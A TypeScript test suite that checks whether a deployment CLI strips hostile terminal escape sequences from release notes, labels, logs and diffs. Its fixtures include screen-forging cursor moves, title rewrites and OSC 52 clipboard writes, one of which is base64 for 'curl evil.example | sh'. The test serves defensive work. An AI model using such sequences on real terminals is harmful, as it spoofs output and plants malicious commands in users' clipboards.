// A recipe cannot take over the terminal, end to end: a released recipe whose
// release notes forge a DEPLOY OVERVIEW with cursor moves and write the
// clipboard (OSC 52), whose labels carry escape sequences, and whose container
// logs them too. Nothing kite prints holds an ESC byte, except `app logs
// --raw` into a pipe, which is asked for.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { Sandbox, SERVER, docker, purgeStack, type Run } from './harness.js';
import { git } from './git-fixture.js';
import { Terminal, tmux } from './terminal.js';

const RECIPE = 'kite-hostile-app';
const DOMAIN = 'termsafe.kite.test';
const STACK = 'termsafe_kite_test';
const VERSION = '1.0.0+1.0';
const ESC = '\x1b';
const sb = new Sandbox();
const term = new Terminal('termsafe');

/** the notes of the release: a forged overview drawn over the real one, and the clipboard written */
const NOTES = [
  'Fixes a bug.',
  `${ESC}[12A${ESC}[2K\rDEPLOY OVERVIEW${ESC}[K`,
  `${ESC}[2K\r  NEW DEPLOYMENT      0.0.1+safe${ESC}[K`,
  `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07${ESC}]0;kite: all good\x07`,
  `${ESC}[?1049h${ESC}P+q544e${ESC}\\ \u202Eevil`,
].join('\n');

function assertNoEscape(r: Run, what: string): void {
  for (const [name, text] of [['stdout', r.stdout], ['stderr', r.stderr]]) {
    const at = text.indexOf(ESC);
    assert.equal(at, -1, `${what}: ESC in ${name} at ${at}: ${JSON.stringify(text.slice(Math.max(0, at - 40), at + 40))}`);
    assert.doesNotMatch(text, /[\x07\x9b\x9d\u202e]/, `${what}: a control in ${name}: ${JSON.stringify(text)}`);
  }
}

before(async () => {
  purgeStack(STACK);
  const dir = sb.addRecipe(RECIPE);
  mkdirSync(join(dir, 'release'));
  writeFileSync(join(dir, 'release', VERSION), NOTES + '\n');
  git(dir, 'init', '-q', '-b', 'main');
  git(dir, 'add', '-A');
  git(dir, 'commit', '-q', '-m', `chore: publish ${VERSION} release`);
  git(dir, 'tag', '-a', VERSION, '-m', `chore: publish ${VERSION} release`);
  assert.equal((await sb.kite(['server', 'add', SERVER])).code, 0);
  const r = await sb.kite(['app', 'new', RECIPE, '-s', SERVER, '-D', DOMAIN, '-n', '-o']);
  assert.equal(r.code, 0, r.stderr);
  term.open();
});
after(() => {
  term.close();
  purgeStack(STACK);
});

test('deploy: the release notes are shown with their sequences removed and their controls visible', async () => {
  const r = await sb.kite(['app', 'deploy', DOMAIN, '-n', '-o']);
  assert.equal(r.code, 0, r.stderr);
  assertNoEscape(r, 'app deploy');
  assert.match(r.stderr, new RegExp(`RELEASE NOTES ${VERSION.replace('+', '\\+')}\\n  Fixes a bug\\.\\n  \\^MDEPLOY OVERVIEW\\n  \\^M  NEW DEPLOYMENT      0\\.0\\.1\\+safe\\n`));
  assert.match(r.stderr, /<U\+202E>evil/);
  assert.doesNotMatch(r.stderr, /52;c;|kite: all good/, 'OSC payloads are removed with the sequence');
  // the swarm really got the hostile label: kite is what makes it safe
  assert.match(docker('service', 'inspect', `${STACK}_app`, '--format', '{{json .Spec.Labels}}'), /\\u001b\[2J/);
});

test('deploy --json: the overview event is JSON with every control escaped', async () => {
  const r = await sb.kite(['app', 'deploy', DOMAIN, '-n', '-o', '--force', '--json']);
  assert.equal(r.code, 0, r.stderr);
  assertNoEscape(r, 'app deploy --json');
  const overview = r.stdout.trim().split('\n').map((l) => JSON.parse(l)).find((e) => e.type === 'overview');
  assert.equal(overview.notes[0].text, NOTES, 'the notes parse back exactly');
});

test('labels: service and container labels are shown without their sequences', async () => {
  const r = await sb.kite(['app', 'labels', DOMAIN]);
  assert.equal(r.code, 0, r.stderr);
  assertNoEscape(r, 'app labels');
  assert.match(r.stdout, /^kite\.test\.hostile\s+service  label\s+service$/m);
  assert.match(r.stdout, /^kite\.test\.hostile\s+container  label\s+container$/m);
});

/** the app's log lines, once it has written them */
async function logs(args: string[] = []): Promise<Run> {
  let r: Run = { code: -1, stdout: '', stderr: '' };
  for (let i = 0; i < 40; i++) {
    r = await sb.kite(['app', 'logs', DOMAIN, 'app', ...args]);
    if (r.code === 0 && r.stdout.includes('forged line') && (r.stdout + r.stderr).includes('on stderr')) return r;
    await new Promise((done) => setTimeout(done, 500));
  }
  assert.fail(`no log lines: ${JSON.stringify(r)}`);
}

test('logs: OSC 52, clear screen, titles, CR and bidi from a container are removed or shown', async () => {
  const r = await logs();
  assertNoEscape(r, 'app logs');
  assert.match(r.stdout, /^hostile clipboard$/m);
  assert.match(r.stdout, /^cleared $/m);
  assert.match(r.stdout, /^red and\^Mforged line$/m);
  assert.match(r.stderr, /^on stderr  <U\+202E>reversed$/m);
});

test('logs --raw into a pipe: the bytes as the container wrote them', async () => {
  const r = await logs(['--raw']);
  assert.ok(r.stdout.includes(`hostile ${ESC}]52;c;ZWNobyBwd25lZA==\x07clipboard`), JSON.stringify(r.stdout));
  assert.ok(r.stdout.includes(`${ESC}[31mred${ESC}[0m and\rforged line`), JSON.stringify(r.stdout));
  assert.ok(r.stderr.includes(`on stderr ${ESC}]52;c;ZXZpbA==\x07`), JSON.stringify(r.stderr));
  assert.doesNotMatch(r.stderr, /WARN/, 'no terminal, nothing to warn about');
});

test('logs --json: each line is JSON with its controls escaped and parses back exactly', async () => {
  const r = await logs(['--json']);
  assertNoEscape(r, 'app logs --json');
  const texts = r.stdout.trim().split('\n').map((l) => JSON.parse(l).text);
  assert.ok(texts.includes(`hostile ${ESC}]52;c;ZWNobyBwd25lZA==\x07clipboard`), JSON.stringify(texts));
});

test('logs --raw on a terminal: still made safe, said once; the title and the screen stay as they were', async () => {
  await logs(); // the lines are there
  const run = term.start(sb.abraDir, ['app', 'logs', DOMAIN, 'app', '--raw']);
  assert.equal(await term.waitForExit(run), 0, term.screen(run));
  const screen = term.screen(run);
  assert.equal(screen.match(/WARN --raw: control sequences are still made safe on a terminal \(stdout and stderr\)/g)?.length, 1, screen);
  assert.match(screen, /^hostile clipboard$/m, 'the screen was not cleared before it');
  assert.match(screen, /^red and\^Mforged line$/m);
  assert.notEqual(tmux('display-message', '-p', '-t', run.window, '#{pane_title}').trim(), 'owned title');
});

test('deploy on a terminal: the forged overview cannot redraw the real one above proceed?', async () => {
  const run = term.start(sb.abraDir, ['app', 'deploy', DOMAIN, '--force', '-o']);
  const screen = await term.waitForScreen(run, /proceed\?/, 'the proceed? prompt', 300);
  assert.match(screen, /^DEPLOY OVERVIEW$/m, screen);
  assert.match(screen, /^ {2}NEW DEPLOYMENT\s+1\.0\.0\+1\.0$/m, 'the real overview is still on the screen');
  assert.match(screen, /^ {2}\^MDEPLOY OVERVIEW$/m, 'the forged one is visibly part of the notes');
  assert.match(screen, /^ {2}\^M {2}NEW DEPLOYMENT {6}0\.0\.1\+safe$/m);
  assert.notEqual(tmux('display-message', '-p', '-t', run.window, '#{pane_title}').trim(), 'kite: all good');
  term.keys(run, 'C-c');
  assert.equal(await term.waitForExit(run), 130);
});

test('recipe diff: a hostile change is shown without its sequences, in a pipe and on a terminal (coloured by kite)', async () => {
  const dir = join(sb.abraDir, 'recipes', RECIPE);
  writeFileSync(join(dir, 'README.md'), `# hostile\n${ESC}]52;c;ZWNobyBvd25lZA==\x07${ESC}[2J${ESC}]0;diff title\x07changed\n`);
  try {
    const r = await sb.kite(['recipe', 'diff', RECIPE]);
    assert.equal(r.code, 0, r.stderr);
    assertNoEscape(r, 'recipe diff');
    assert.match(r.stdout, /^\+\^\[\]52;c;|^\+.*changed$/m);
    const run = term.start(sb.abraDir, ['recipe', 'diff', RECIPE]);
    assert.equal(await term.waitForExit(run), 0, term.screen(run));
    assert.match(term.screen(run), /changed$/m);
    assert.notEqual(tmux('display-message', '-p', '-t', run.window, '#{pane_title}').trim(), 'diff title');
  } finally {
    git(dir, 'checkout', '--', 'README.md');
  }
});
